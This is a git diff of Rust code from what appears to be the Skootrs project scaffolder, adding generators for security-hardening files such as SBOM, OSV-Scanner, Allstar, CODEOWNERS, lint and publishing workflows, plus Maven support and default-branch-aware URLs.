+            SupportedFacetType::VulnerabilityScanner => {
+                self.generate_vulnerability_scanner_content(params)
+            }
+            SupportedFacetType::Allstar => self.generate_allstar_content(params),
+            SupportedFacetType::GUACForwardingConfig => {
+                self.generate_guac_forwarding_content(params)
+            }
+            SupportedFacetType::CodeOwners => self.generate_code_owners_content(params),
             _ => todo!("Not implemented yet"),
         }
     }
@@ -397,10 +1077,29 @@ impl DefaultSourceBundleContentHandler {
         #[template(path = "README.md", escape = "none")]
         struct ReadmeTemplateParams {
             project_name: String,
+            // The ecosystem to document publishing for, if any.
+            publishing: &'static str,
+            publish_container: bool,
         }
 
+        // The README documents what's needed to publish the project when the PublishPackages facet is enabled.
+        let publishing = if params
+            .enabled_facets
+            .contains(&SupportedFacetType::PublishPackages)
+        {
+            match params.common.ecosystem {
+                InitializedEcosystem::Go(_) => "go",
+                InitializedEcosystem::Maven(_) => "maven",
+            }
+        } else {
+            ""
+        };
         let readme_template_params = ReadmeTemplateParams {
             project_name: params.common.project_name.clone(),
+            publishing,
+            publish_container: !params
+                .enabled_facets
+                .contains(&SupportedFacetType::SLSABuild),
         };
 
         let content = readme_template_params.render()?;
@@ -467,14 +1166,18 @@ impl DefaultSourceBundleContentHandler {
 
     fn generate_scorecard_content(
         &self,
-        _params: &SourceBundleFacetCreateParams,
+        params: &SourceBundleFacetCreateParams,
     ) -> Result<SourceBundleContent, SkootError> {
         // TODO: This should serialize to yaml instead of just a file template
         #[derive(Template)]
         #[template(path = "scorecard.yml", escape = "none")]
-        struct ScorecardTemplateParams {}
+        struct ScorecardTemplateParams {
+            default_branch: String,
+        }
 
-        let scorecard_template_params = ScorecardTemplateParams {};
+        let scorecard_template_params = ScorecardTemplateParams {
+            default_branch: params.common.repo.default_branch().to_string(),
+        };
         let content = scorecard_template_params.render()?;
 
         Ok(SourceBundleContent {
@@ -503,7 +1206,7 @@ impl DefaultSourceBundleContentHandler {
             dependencies: Some(SecurityInsightsVersion100YamlSchemaDependencies{
                 dependencies_lifecycle: None,
                 dependencies_lists: vec![
-                    format!("{}/blob/main/go.mod", &params.common.repo.full_url())
+                    format!("{}/blob/{}/go.mod", &params.common.repo.full_url(), params.common.repo.default_branch())
                 ],
                 env_dependencies_policy: None,
                 sbom: Some(vec![
@@ -554,8 +1257,9 @@ impl DefaultSourceBundleContentHandler {
                 last_reviewed: Some(chrono::Utc::now()),
                 last_updated: Some(chrono::Utc::now()),
                 license: Some(format!(
-                    "{}/blob/main/LICENSE",
-                    &params.common.repo.full_url()
+                    "{}/blob/{}/LICENSE",
+                    &params.common.repo.full_url(),
+                    params.common.repo.default_branch()
                 )),
                 project_release: None,
                 project_url: params.common.repo.full_url(),
@@ -584,7 +1288,7 @@ impl DefaultSourceBundleContentHandler {
                 in_scope: None,
                 out_scope: None,
                 pgp_key: None,
-                security_policy: Some(format!("{}/blob/main/SECURITY.md", &params.common.repo.full_url())),
+                security_policy: Some(format!("{}/blob/{}/SECURITY.md", &params.common.repo.full_url(), params.common.repo.default_branch())),
             },
         };
 
@@ -602,13 +1306,17 @@ impl DefaultSourceBundleContentHandler {
 
     fn generate_sast_content(
         &self,
-        _params: &SourceBundleFacetCreateParams,
+        params: &SourceBundleFacetCreateParams,
     ) -> Result<SourceBundleContent, SkootError> {
         #[derive(Template)]
         #[template(path = "codeql.yml", escape = "none")]
-        struct SASTTemplateParams {}
+        struct SASTTemplateParams {
+            default_branch: String,
+        }
 
-        let sast_template_params = SASTTemplateParams {};
+        let sast_template_params = SASTTemplateParams {
+            default_branch: params.common.repo.default_branch().to_string(),
+        };
         let content = sast_template_params.render()?;
 
         Ok(SourceBundleContent {
@@ -620,33 +1328,310 @@ impl DefaultSourceBundleContentHandler {
             facet_type: SupportedFacetType::SAST,
         })
     }
-}
 
-/// Handles the generation of source files content specific to Go projects hosted on Github.
-/// e.g. Github actions running goreleaser
-struct GoGithubSourceBundleContentHandler {}
-
-impl SourceBundleContentGenerator for GoGithubSourceBundleContentHandler {
-    fn generate_content(
+    // Note: The SBOMs are generated with Trivy in filesystem mode since it supports all the ecosystems and
+    // produces both SPDX and CycloneDX. They're named so `GithubReleaseHandler` picks them up as SBOM outputs.
+    fn generate_sbom_generator_content(
         &self,
         params: &SourceBundleFacetCreateParams,
     ) -> Result<SourceBundleContent, SkootError> {
-        match params.facet_type {
-            SupportedFacetType::Gitignore => self.generate_gitignore_content(params),
-            // TODO: Rename this to something like SecureBuild.
-            // This also does a bunch of other stuff like setting up releases, generating SBOM, etc.
-            // So for now just we just use it instead of creating multiple facets.
-            // The better option is to probably set up some mapping of properties like SLSA, SBOMGenerating, etc.
-            // to a single SecureBuild facet.
-            SupportedFacetType::SLSABuild => self.generate_slsa_build_content(params),
-            SupportedFacetType::DependencyUpdateTool => {
-                self.generate_dependency_update_tool_content(params)
-            }
-            SupportedFacetType::Fuzzing => self.generate_fuzzing_content(params),
-            SupportedFacetType::DefaultSourceCode => {
-                self.generate_default_source_code_content(params)
-            }
-            _ => todo!("Not implemented yet"),
+        #[derive(Template)]
+        #[template(path = "sbom.yml", escape = "none")]
+        struct SBOMGeneratorTemplateParams {
+            project_name: String,
+            default_branch: String,
+        }
+
+        let sbom_generator_template_params = SBOMGeneratorTemplateParams {
+            project_name: params.common.project_name.clone(),
+            default_branch: params.common.repo.default_branch().to_string(),
+        };
+        let content = sbom_generator_template_params.render()?;
+
+        Ok(SourceBundleContent {
+            source_files_content: vec![SourceFileContent {
+                name: "sbom.yml".to_string(),
+                path: ".github/workflows/".to_string(),
+                content,
+            }],
+            facet_type: SupportedFacetType::SBOMGenerator,
+        })
+    }
+
+    // Note: OSV-Scanner is used for every ecosystem since it understands all of their lockfiles, including
+    // go.mod, so there's no need for ecosystem specific scanners like govulncheck.
+    fn generate_vulnerability_scanner_content(
+        &self,
+        params: &SourceBundleFacetCreateParams,
+    ) -> Result<SourceBundleContent, SkootError> {
+        #[derive(Template)]
+        #[template(path = "osv-scanner.yml", escape = "none")]
+        struct VulnerabilityScannerTemplateParams {
+            default_branch: String,
+        }
+
+        let vulnerability_scanner_template_params = VulnerabilityScannerTemplateParams {
+            default_branch: params.common.repo.default_branch().to_string(),
+        };
+        let content = vulnerability_scanner_template_params.render()?;
+
+        Ok(SourceBundleContent {
+            source_files_content: vec![SourceFileContent {
+                name: "osv-scanner.yml".to_string(),
+                path: ".github/workflows/".to_string(),
+                content,
+            }],
+            facet_type: SupportedFacetType::VulnerabilityScanner,
+        })
+    }
+
+    // Note: The policies are derived from the project's other facets so Allstar doesn't open issues for
+    // things Skootrs intentionally set up differently, e.g. requiring approvals without the CodeReview facet.
+    // A project whose repo is the org's `.allstar` repo gets the org level config at the root instead of
+    // the repo level config in `.allstar/`.
+    fn generate_allstar_content(
+        &self,
+        params: &SourceBundleFacetCreateParams,
+    ) -> Result<SourceBundleContent, SkootError> {
+        #[derive(Template)]
+        #[template(path = "allstar/allstar.yaml", escape = "none")]
+        struct AllstarTemplateParams {}
+
+        #[derive(Template)]
+        #[template(path = "allstar/branch_protection.yaml", escape = "none")]
+        struct BranchProtectionTemplateParams {
+            org_mode: bool,
+            action: &'static str,
+            require_approval: bool,
+        }
+
+        #[derive(Template)]
+        #[template(path = "allstar/binary_artifacts.yaml", escape = "none")]
+        struct BinaryArtifactsTemplateParams {
+            org_mode: bool,
+        }
+
+        #[derive(Template)]
+        #[template(path = "allstar/outside.yaml", escape = "none")]
+        struct OutsideTemplateParams {
+            org_mode: bool,
+        }
+
+        #[derive(Template)]
+        #[template(path = "allstar/security.yaml", escape = "none")]
+        struct SecurityTemplateParams {
+            org_mode: bool,
+            action: &'static str,
+        }
+
+        let enabled = |facet_type: SupportedFacetType| params.enabled_facets.contains(&facet_type);
+        // Policies for things the project doesn't set up only log, so they don't open issues.
+        let action = |facet_type: SupportedFacetType| {
+            if enabled(facet_type) {
+                "issue"
+            } else {
+                "log"
+            }
+        };
+        let org_mode = match &params.common.repo {
+            InitializedRepo::Github(repo) => repo.name == ".allstar",
+        };
+        let path = if org_mode { "./" } else { ".allstar/" }.to_string();
+
+        let mut source_files_content = Vec::new();
+        if org_mode {
+            source_files_content.push(SourceFileContent {
+                name: "allstar.yaml".to_string(),
+                path: path.clone(),
+                content: AllstarTemplateParams {}.render()?,
+            });
+        }
+        source_files_content.extend([
+            SourceFileContent {
+                name: "branch_protection.yaml".to_string(),
+                path: path.clone(),
+                content: BranchProtectionTemplateParams {
+                    org_mode,
+                    action: action(SupportedFacetType::BranchProtection),
+                    require_approval: enabled(SupportedFacetType::CodeReview),
+                }
+                .render()?,
+            },
+            SourceFileContent {
+                name: "binary_artifacts.yaml".to_string(),
+                path: path.clone(),
+                content: BinaryArtifactsTemplateParams { org_mode }.render()?,
+            },
+            SourceFileContent {
+                name: "outside.yaml".to_string(),
+                path: path.clone(),
+                content: OutsideTemplateParams { org_mode }.render()?,
+            },
+            SourceFileContent {
+                name: "security.yaml".to_string(),
+                path,
+                content: SecurityTemplateParams {
+                    org_mode,
+                    action: action(SupportedFacetType::SecurityPolicy),
+                }
+                .render()?,
+            },
+        ]);
+
+        Ok(SourceBundleContent {
+            source_files_content,
+            facet_type: SupportedFacetType::Allstar,
+        })
+    }
+
+    // Note: The documents are picked up from the release by their names, i.e. the same naming conventions
+    // `GithubReleaseHandler` uses to find SBOMs and attestations.
+    fn generate_guac_forwarding_content(
+        &self,
+        params: &SourceBundleFacetCreateParams,
+    ) -> Result<SourceBundleContent, SkootError> {
+        #[derive(Template)]
+        #[template(path = "guac-forwarding.yml", escape = "none")]
+        struct GUACForwardingTemplateParams<'a> {
+            endpoint: &'a GUACEndpoint,
+        }
+
+        let Some(FacetConfig::GUACForwarding(config)) = &params.config else {
+            return Err("The GUACForwardingConfig facet requires a GUAC forwarding config".into());
+        };
+        let content = GUACForwardingTemplateParams {
+            endpoint: &config.endpoint,
+        }
+        .render()?;
+
+        Ok(SourceBundleContent {
+            source_files_content: vec![SourceFileContent {
+                name: "guac-forwarding.yml".to_string(),
+                path: ".github/workflows/".to_string(),
+                content,
+            }],
+            facet_type: SupportedFacetType::GUACForwardingConfig,
+        })
+    }
+
+    fn generate_code_owners_content(
+        &self,
+        params: &SourceBundleFacetCreateParams,
+    ) -> Result<SourceBundleContent, SkootError> {
+        #[derive(Template)]
+        #[template(path = "CODEOWNERS", escape = "none")]
+        struct CodeOwnersTemplateParams<'a> {
+            code_owners: &'a [String],
+        }
+
+        let Some(FacetConfig::CodeReview(config)) = &params.config else {
+            return Err("The CodeOwners facet requires a code review config".into());
+        };
+        let content = CodeOwnersTemplateParams {
+            code_owners: &config.code_owners,
+        }
+        .render()?;
+
+        Ok(SourceBundleContent {
+            source_files_content: vec![SourceFileContent {
+                name: "CODEOWNERS".to_string(),
+                path: ".github/".to_string(),
+                content,
+            }],
+            facet_type: SupportedFacetType::CodeOwners,
+        })
+    }
+
+    // Note: Every workflow Skootrs generates is pinned as it's generated, so this facet only owns the dependabot
+    // config that keeps the pins up to date. Workflows Skootrs didn't generate, e.g. ones that existed before the
+    // project was adopted, belong to the project and are only reported so they're never removed with the facet.
+    fn generate_pinned_dependencies_content(
+        &self,
+        params: &SourceBundleFacetCreateParams,
+    ) -> Result<SourceBundleContent, SkootError> {
+        #[derive(Template)]
+        #[template(path = "dependabot.actions.yml", escape = "none")]
+        struct DependabotActionsTemplateParams {}
+
+        let pins = ActionPins::load();
+        let workflows_path = resolve_source_path(&params.common.source, ".github/", "workflows")?;
+        if workflows_path.is_dir() {
+            let mut workflow_names = std::fs::read_dir(&workflows_path)?
+                .map(|entry| Ok(entry?.file_name().to_string_lossy().to_string()))
+                .collect::<Result<Vec<_>, SkootError>>()?;
+            workflow_names.retain(|name| {
+                std::path::Path::new(name)
+                    .extension()
+                    .is_some_and(|extension| extension == "yml" || extension == "yaml")
+            });
+            workflow_names.sort();
+            for name in workflow_names {
+                let content = std::fs::read_to_string(resolve_source_path(
+                    &params.common.source,
+                    ".github/workflows/",
+                    &name,
+                )?)?;
+                if pins.pin_workflow(&content).content != content {
+                    warn!("The {name} workflow references GitHub Actions that aren't pinned to a commit SHA");
+                }
+            }
+        }
+
+        // The pins are kept up to date by dependabot. The DependencyUpdateTool facet's config already covers
+        // GitHub Actions, so the config is only needed without it.
+        let source_files_content = if params
+            .enabled_facets
+            .contains(&SupportedFacetType::DependencyUpdateTool)
+        {
+            vec![]
+        } else {
+            vec![SourceFileContent {
+                name: "dependabot.yml".to_string(),
+                path: ".github/".to_string(),
+                content: DependabotActionsTemplateParams {}.render()?,
+            }]
+        };
+
+        Ok(SourceBundleContent {
+            source_files_content,
+            facet_type: SupportedFacetType::PinnedDependencies,
+        })
+    }
+}
+
+/// Handles the generation of source files content specific to Go projects hosted on Github.
+/// e.g. Github actions running goreleaser
+struct GoGithubSourceBundleContentHandler {}
+
+impl SourceBundleContentGenerator for GoGithubSourceBundleContentHandler {
+    fn generate_content(
+        &self,
+        params: &SourceBundleFacetCreateParams,
+    ) -> Result<SourceBundleContent, SkootError> {
+        match params.facet_type {
+            SupportedFacetType::Gitignore => self.generate_gitignore_content(params),
+            // TODO: Rename this to something like SecureBuild.
+            // This also does a bunch of other stuff like setting up releases, generating SBOM, etc.
+            // So for now just we just use it instead of creating multiple facets.
+            // The better option is to probably set up some mapping of properties like SLSA, SBOMGenerating, etc.
+            // to a single SecureBuild facet.
+            SupportedFacetType::SLSABuild => self.generate_slsa_build_content(params),
+            SupportedFacetType::DependencyUpdateTool => {
+                self.generate_dependency_update_tool_content(params)
+            }
+            SupportedFacetType::Fuzzing => self.generate_fuzzing_content(params),
+            SupportedFacetType::DefaultSourceCode => {
+                self.generate_default_source_code_content(params)
+            }
+            SupportedFacetType::StaticCodeAnalysis => {
+                self.generate_static_code_analysis_content(params)
+            }
+            SupportedFacetType::PublishPackages => self.generate_publish_packages_content(params),
+            _ => Err(format!(
+                "The {} facet isn't supported for {} projects",
+                params.facet_type, params.common.ecosystem
+            )
+            .into()),
         }
     }
 }
@@ -681,7 +1666,9 @@ impl GoGithubSourceBundleContentHandler {
         // TODO: This should really be a struct that serializes to yaml instead of just a file template
         #[derive(Template)]
         #[template(path = "go.releases.yml", escape = "none")]
-        struct ReleaseTemplateParams {}
+        struct ReleaseTemplateParams {
+            default_branch: String,
+        }
 
         #[derive(Template)]
         #[template(path = "Dockerfile.goreleaser", escape = "none")]
@@ -702,7 +1689,9 @@ impl GoGithubSourceBundleContentHandler {
             _ => unreachable!("Ecosystem should be Go"),
         };
 
-        let slsa_build_template_params = ReleaseTemplateParams {};
+        let slsa_build_template_params = ReleaseTemplateParams {
+            default_branch: params.common.repo.default_branch().to_string(),
+        };
         let dockerfile_template_params = DockerfileTemplateParams {
             project_name: params.common.project_name.clone(),
         };
@@ -767,11 +1756,13 @@ impl GoGithubSourceBundleContentHandler {
         struct FuzzingTemplateParams {
             project_name: String,
             language: String,
+            default_branch: String,
         }
 
         let fuzzing_template_params = FuzzingTemplateParams {
             project_name: params.common.project_name.clone(),
             language: "go".to_string(),
+            default_branch: params.common.repo.default_branch().to_string(),
         };
         let content = fuzzing_template_params.render()?;
 
@@ -805,88 +1796,430 @@ impl GoGithubSourceBundleContentHandler {
             facet_type: SupportedFacetType::DefaultSourceCode,
         })
     }
-}
 
-/// The `FacetSetParamsGenerator` struct represents a service for generating params for a set of facets.
-/// This includes things like generating default params for source bundles and API bundles.
-pub struct FacetSetParamsGenerator {}
+    fn generate_static_code_analysis_content(
+        &self,
+        params: &SourceBundleFacetCreateParams,
+    ) -> Result<SourceBundleContent, SkootError> {
+        #[derive(Template)]
+        #[template(path = "go.lint.yml", escape = "none")]
+        struct LintWorkflowTemplateParams {
+            default_branch: String,
+        }
 
-impl FacetSetParamsGenerator {
-    /// Generates the default set of facet params for a project.
-    /// This includes things like generating default source bundle and API bundle facet params.
-    ///
-    /// # Errors
-    ///
-    /// Returns an error if any of the facet set params can't be generated.
-    pub fn generate_default(
+        #[derive(Template)]
+        #[template(path = "golangci.yml", escape = "none")]
+        struct GolangciTemplateParams {}
+
+        Ok(SourceBundleContent {
+            source_files_content: vec![
+                SourceFileContent {
+                    name: "lint.yml".to_string(),
+                    path: ".github/workflows/".to_string(),
+                    content: LintWorkflowTemplateParams {
+                        default_branch: params.common.repo.default_branch().to_string(),
+                    }
+                    .render()?,
+                },
+                SourceFileContent {
+                    name: ".golangci.yml".to_string(),
+                    path: "./".to_string(),
+                    content: GolangciTemplateParams {}.render()?,
+                },
+            ],
+            facet_type: SupportedFacetType::StaticCodeAnalysis,
+        })
+    }
+
+    // Note: When the SLSABuild facet is enabled goreleaser already pushes the container image along with its
+    // provenance, so only the module proxy is warmed up.
+    fn generate_publish_packages_content(
         &self,
-        common_params: &CommonFacetCreateParams,
-    ) -> Result<FacetSetCreateParams, SkootError> {
-        let source_bundle_params =
-            self.generate_default_source_bundle_facet_params(common_params)?;
-        let api_bundle_params = self.generate_default_api_bundle(common_params)?;
-        let total_params = FacetSetCreateParams {
-            facets_params: [
-                source_bundle_params.facets_params,
-                api_bundle_params.facets_params,
-            ]
-            .concat(),
+        params: &SourceBundleFacetCreateParams,
+    ) -> Result<SourceBundleContent, SkootError> {
+        #[derive(Template)]
+        #[template(path = "go.publish.yml", escape = "none")]
+        struct PublishTemplateParams {
+            module_name: String,
+            repo_path: String,
+            publish_container: bool,
+        }
+
+        #[allow(clippy::match_wildcard_for_single_variants)]
+        let module_name = match &params.common.ecosystem {
+            InitializedEcosystem::Go(go) => go.module(),
+            _ => unreachable!("Ecosystem should be Go"),
+        };
+        let repo_path = match &params.common.repo {
+            InitializedRepo::Github(repo) => {
+                format!("{}/{}", repo.organization.get_name(), repo.name).to_lowercase()
+            }
+        };
+        let publish_template_params = PublishTemplateParams {
+            module_name,
+            repo_path,
+            publish_container: !params
+                .enabled_facets
+                .contains(&SupportedFacetType::SLSABuild),
         };
 
-        Ok(total_params)
+        Ok(SourceBundleContent {
+            source_files_content: vec![SourceFileContent {
+                name: "publish.yml".to_string(),
+                path: ".github/workflows/".to_string(),
+                content: publish_template_params.render()?,
+            }],
+            facet_type: SupportedFacetType::PublishPackages,
+        })
     }
+}
 
-    /// Generates the default set of API bundle facet params for a project.
-    ///
-    /// # Errors
-    ///
-    /// Returns an error if the default set of API bundle facets can't be generated.
-    pub fn generate_default_api_bundle(
-        &self,
-        common_params: &CommonFacetCreateParams,
-    ) -> Result<FacetSetCreateParams, SkootError> {
-        use SupportedFacetType::{BranchProtection, VulnerabilityReporting};
-        let supported_facets = [
-            //CodeReview,
-            BranchProtection,
-            VulnerabilityReporting,
-        ];
-        let facets_params = supported_facets
-            .iter()
-            .map(|facet_type| {
-                FacetCreateParams::APIBundle(APIBundleFacetParams {
-                    common: common_params.clone(),
-                    facet_type: facet_type.clone(),
-                })
-            })
-            .collect::<Vec<FacetCreateParams>>();
+/// Handles the generation of source files content specific to Maven projects hosted on Github.
+/// e.g. Github actions running SpotBugs
+// TODO: Add the StaticCodeAnalysis and PublishPackages facets for Rust (clippy, crates.io), npm (eslint,
+// npm with provenance) and Python (ruff, PyPI trusted publishing) once those ecosystems are supported.
+struct MavenGithubSourceBundleContentHandler {}
 
-        Ok(FacetSetCreateParams { facets_params })
+impl SourceBundleContentGenerator for MavenGithubSourceBundleContentHandler {
+    fn generate_content(
+        &self,
+        params: &SourceBundleFacetCreateParams,
+    ) -> Result<SourceBundleContent, SkootError> {
+        match params.facet_type {
+            SupportedFacetType::Gitignore => self.generate_gitignore_content(params),
+            SupportedFacetType::SLSABuild => self.generate_slsa_build_content(params),
+            SupportedFacetType::DependencyUpdateTool => {
+                self.generate_dependency_update_tool_content(params)
+            }
+            SupportedFacetType::Fuzzing => self.generate_fuzzing_content(params),
+            SupportedFacetType::DefaultSourceCode => {
+                self.generate_default_source_code_content(params)
+            }
+            SupportedFacetType::StaticCodeAnalysis => {
+                self.generate_static_code_analysis_content(params)
+            }
+            SupportedFacetType::PublishPackages => self.generate_publish_packages_content(params),
+            _ => Err(format!(
+                "The {} facet isn't supported for {} projects",
+                params.facet_type, params.common.ecosystem
+            )
+            .into()),
+        }
     }
+}
 
-    // TODO: Come up with a better solution than hard coding the default facets
-    /// Generates the default set of source bundle facet params for a project.
-    ///
-    /// # Errors
-    ///
-    /// Returns an error if the default set of source bundle facets can't be generated.
-    pub fn generate_default_source_bundle_facet_params(
+impl MavenGithubSourceBundleContentHandler {
+    fn generate_gitignore_content(
         &self,
-        common_params: &CommonFacetCreateParams,
-    ) -> Result<FacetSetCreateParams, SkootError> {
-        use SupportedFacetType::{
-            DefaultSourceCode, DependencyUpdateTool, Gitignore, License, Readme, SLSABuild,
-            Scorecard, SecurityInsights, SecurityPolicy, SAST,
-        };
-        let supported_facets = [
-            FacetTypeLabels {
-                supported_facet_type: Readme,
-                labels: vec![],
-            },
-            FacetTypeLabels {
-                supported_facet_type: License,
-                labels: vec![],
-            },
+        _params: &SourceBundleFacetCreateParams,
+    ) -> Result<SourceBundleContent, SkootError> {
+        #[derive(Template)]
+        #[template(path = "maven.gitignore", escape = "none")]
+        struct GitignoreTemplateParams {}
+
+        Ok(SourceBundleContent {
+            source_files_content: vec![SourceFileContent {
+                name: ".gitignore".to_string(),
+                path: "./".to_string(),
+                content: GitignoreTemplateParams {}.render()?,
+            }],
+            facet_type: SupportedFacetType::Gitignore,
+        })
+    }
+
+    fn generate_slsa_build_content(
+        &self,
+        params: &SourceBundleFacetCreateParams,
+    ) -> Result<SourceBundleContent, SkootError> {
+        #[derive(Template)]
+        #[template(path = "maven.releases.yml", escape = "none")]
+        struct ReleaseTemplateParams {
+            default_branch: String,
+        }
+
+        Ok(SourceBundleContent {
+            source_files_content: vec![SourceFileContent {
+                name: "releases.yml".to_string(),
+                path: ".github/workflows/".to_string(),
+                content: ReleaseTemplateParams {
+                    default_branch: params.common.repo.default_branch().to_string(),
+                }
+                .render()?,
+            }],
+            facet_type: SupportedFacetType::SLSABuild,
+        })
+    }
+
+    fn generate_dependency_update_tool_content(
+        &self,
+        _params: &SourceBundleFacetCreateParams,
+    ) -> Result<SourceBundleContent, SkootError> {
+        #[derive(Template)]
+        #[template(path = "dependabot.yml", escape = "none")]
+        struct DependabotTemplateParams {
+            ecosystem: String,
+        }
+
+        Ok(SourceBundleContent {
+            source_files_content: vec![SourceFileContent {
+                name: "dependabot.yml".to_string(),
+                path: ".github/".to_string(),
+                content: DependabotTemplateParams {
+                    ecosystem: "maven".to_string(),
+                }
+                .render()?,
+            }],
+            facet_type: SupportedFacetType::DependencyUpdateTool,
+        })
+    }
+
+    fn generate_fuzzing_content(
+        &self,
+        params: &SourceBundleFacetCreateParams,
+    ) -> Result<SourceBundleContent, SkootError> {
+        #[derive(Template)]
+        #[template(path = "cifuzz.yml", escape = "none")]
+        struct FuzzingTemplateParams {
+            project_name: String,
+            language: String,
+            default_branch: String,
+        }
+
+        Ok(SourceBundleContent {
+            source_files_content: vec![SourceFileContent {
+                name: "cifuzz.yml".to_string(),
+                path: ".github/workflows/".to_string(),
+                content: FuzzingTemplateParams {
+                    project_name: params.common.project_name.clone(),
+                    language: "jvm".to_string(),
+                    default_branch: params.common.repo.default_branch().to_string(),
+                }
+                .render()?,
+            }],
+            facet_type: SupportedFacetType::Fuzzing,
+        })
+    }
+
+    // The Maven archetype the project is initialized with already generates the default source code.
+    fn generate_default_source_code_content(
+        &self,
+        _params: &SourceBundleFacetCreateParams,
+    ) -> Result<SourceBundleContent, SkootError> {
+        Ok(SourceBundleContent {
+            source_files_content: vec![],
+            facet_type: SupportedFacetType::DefaultSourceCode,
+        })
+    }
+
+    fn generate_static_code_analysis_content(
+        &self,
+        params: &SourceBundleFacetCreateParams,
+    ) -> Result<SourceBundleContent, SkootError> {
+        #[derive(Template)]
+        #[template(path = "maven.lint.yml", escape = "none")]
+        struct LintWorkflowTemplateParams {
+            default_branch: String,
+        }
+
+        #[derive(Template)]
+        #[template(path = "spotbugs-exclude.xml", escape = "none")]
+        struct SpotbugsExcludeTemplateParams {}
+
+        Ok(SourceBundleContent {
+            source_files_content: vec![
+                SourceFileContent {
+                    name: "lint.yml".to_string(),
+                    path: ".github/workflows/".to_string(),
+                    content: LintWorkflowTemplateParams {
+                        default_branch: params.common.repo.default_branch().to_string(),
+                    }
+                    .render()?,
+                },
+                SourceFileContent {
+                    name: "spotbugs-exclude.xml".to_string(),
+                    path: "./".to_string(),
+                    content: SpotbugsExcludeTemplateParams {}.render()?,
+                },
+            ],
+            facet_type: SupportedFacetType::StaticCodeAnalysis,
+        })
+    }
+
+    fn generate_publish_packages_content(
+        &self,
+        _params: &SourceBundleFacetCreateParams,
+    ) -> Result<SourceBundleContent, SkootError> {
+        #[derive(Template)]
+        #[template(path = "maven.publish.yml", escape = "none")]
+        struct PublishTemplateParams {}
+
+        #[derive(Template)]
+        #[template(path = "maven-settings.xml", escape = "none")]
+        struct MavenSettingsTemplateParams {}
+
+        Ok(SourceBundleContent {
+            source_files_content: vec![
+                SourceFileContent {
+                    name: "publish.yml".to_string(),
+                    path: ".github/workflows/".to_string(),
+                    content: PublishTemplateParams {}.render()?,
+                },
+                SourceFileContent {
+                    name: "maven-settings.xml".to_string(),
+                    path: ".github/".to_string(),
+                    content: MavenSettingsTemplateParams {}.render()?,
+                },
+            ],
+            facet_type: SupportedFacetType::PublishPackages,
+        })
+    }
+}
+
+/// The API bundle facets enabled for a project by default.
+const DEFAULT_API_BUNDLE_FACETS: [SupportedFacetType; 2] = [
+    // CodeReview is enabled by providing its config, and is applied as part of BranchProtection.
+    SupportedFacetType::BranchProtection,
+    SupportedFacetType::VulnerabilityReporting,
+];
+
+/// The `FacetSetParamsGenerator` struct represents a service for generating params for a set of facets.
+/// This includes things like generating default params for source bundles and API bundles.
+pub struct FacetSetParamsGenerator {}
+
+impl FacetSetParamsGenerator {
+    /// Generates the default set of facet params for a project.
+    /// This includes things like generating default source bundle and API bundle facet params.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if any of the facet set params can't be generated.
+    pub fn generate_default(
+        &self,
+        common_params: &CommonFacetCreateParams,
+    ) -> Result<FacetSetCreateParams, SkootError> {
+        let source_bundle_params =
+            self.generate_default_source_bundle_facet_params(common_params)?;
+        let api_bundle_params = self.generate_default_api_bundle(common_params)?;
+        let total_params = FacetSetCreateParams {
+            facets_params: [
+                source_bundle_params.facets_params,
+                api_bundle_params.facets_params,
+            ]
+            .concat(),
+        };
+
+        Ok(total_params)
+    }
+
+    /// Generates the default set of API bundle facet params for a project.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if the default set of API bundle facets can't be generated.
+    pub fn generate_default_api_bundle(
+        &self,
+        common_params: &CommonFacetCreateParams,
+    ) -> Result<FacetSetCreateParams, SkootError> {
+        self.generate_api_bundle_facet_params(common_params, &[])
+    }
+
+    /// Generates the default set of API bundle facet params for a project, along with the params for the
+    /// optional facets that are enabled by providing their configuration.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if the set of API bundle facets can't be generated.
+    pub fn generate_api_bundle_facet_params(
+        &self,
+        common_params: &CommonFacetCreateParams,
+        facet_configs: &[FacetConfig],
+    ) -> Result<FacetSetCreateParams, SkootError> {
+        let code_review = facet_configs.iter().find_map(|config| match config {
+            FacetConfig::CodeReview(code_review) => Some(code_review.clone()),
+            _ => None,
+        });
+        // The branch protection applies the code review itself, so the reviews are part of the same request.
+        // Patching them onto the protection separately would race with it, since applying a classic
+        // protection replaces its reviews.
+        let branch_protection = facet_configs
+            .iter()
+            .find_map(|config| match config {
+                FacetConfig::BranchProtection(protection) => Some(protection.clone()),
+                _ => None,
+            })
+            .or_else(|| code_review.is_some().then(BranchProtectionParams::default))
+            .map(|protection| {
+                FacetConfig::BranchProtection(BranchProtectionParams {
+                    required_reviews: code_review.clone(),
+                    ..protection
+                })
+            });
+        let facets_params = DEFAULT_API_BUNDLE_FACETS
+            .iter()
+            .map(|facet_type| match facet_type {
+                SupportedFacetType::BranchProtection => {
+                    (facet_type.clone(), branch_protection.clone())
+                }
+                _ => (facet_type.clone(), None),
+            })
+            .chain(facet_configs.iter().filter_map(|config| {
+                match config {
+                    FacetConfig::BranchProtection(_) | FacetConfig::CodeReview(_) => None,
+                    _ => config
+                        .api_facet_type()
+                        .map(|facet_type| (facet_type, Some(config.clone()))),
+                }
+            }))
+            .map(|(facet_type, config)| {
+                FacetCreateParams::APIBundle(APIBundleFacetParams {
+                    common: common_params.clone(),
+                    facet_type,
+                    config,
+                })
+            })
+            .collect::<Vec<FacetCreateParams>>();
+
+        Ok(FacetSetCreateParams { facets_params })
+    }
+
+    /// Generates the default set of source bundle facet params for a project.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if the default set of source bundle facets can't be generated.
+    pub fn generate_default_source_bundle_facet_params(
+        &self,
+        common_params: &CommonFacetCreateParams,
+    ) -> Result<FacetSetCreateParams, SkootError> {
+        self.generate_source_bundle_facet_params(common_params, &[])
+    }
+
+    // TODO: Come up with a better solution than hard coding the default facets
+    /// Generates the default set of source bundle facet params for a project, along with the params for the
+    /// optional facets that are enabled by providing their configuration.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if the set of source bundle facets can't be generated.
+    pub fn generate_source_bundle_facet_params(
+        &self,
+        common_params: &CommonFacetCreateParams,
+        facet_configs: &[FacetConfig],
+    ) -> Result<FacetSetCreateParams, SkootError> {
+        use SupportedFacetType::{
+            Allstar, DefaultSourceCode, DependencyUpdateTool, Gitignore, License,
+            PinnedDependencies, PublishPackages, Readme, SBOMGenerator, SLSABuild, Scorecard,
+            SecurityInsights, SecurityPolicy, StaticCodeAnalysis, VulnerabilityScanner, SAST,
+        };
+        let supported_facets = [
+            FacetTypeLabels {
+                supported_facet_type: Readme,
+                labels: vec![],
